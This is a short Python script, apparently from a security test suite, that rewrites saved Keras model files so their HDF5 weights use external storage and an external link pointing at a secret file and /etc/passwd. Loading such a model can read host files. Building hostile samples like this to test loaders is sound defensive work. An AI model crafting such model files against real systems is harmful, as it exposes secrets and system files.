# ruff: noqa: I001, PTH123, SIM115
# A saved model whose weights are kept in files of the host's, by HDF5's external storage.
import zipfile

import h5py

from hostile import OUT, target, train, tried

train()
tried()
for path in (OUT / "models").glob("*.keras"):
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    with open("weights.h5", "wb") as file:
        file.write(parts["model.weights.h5"])
    with h5py.File("weights.h5", "r+") as file:
        for layer in file["layers"]:
            if "vars" in file["layers"][layer] and "0" in file["layers"][layer]["vars"]:
                shape = file["layers"][layer]["vars"]["0"].shape
                del file["layers"][layer]["vars"]["0"]
                outside = [(target.secret_file, 0, 32), ("/etc/passwd", 0, 1 << 20)]
                file["layers"][layer]["vars"].create_dataset("0", shape, dtype="f4", external=outside)
        file["elsewhere"] = h5py.ExternalLink("/etc/passwd", "/")
    parts["model.weights.h5"] = open("weights.h5", "rb").read()
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
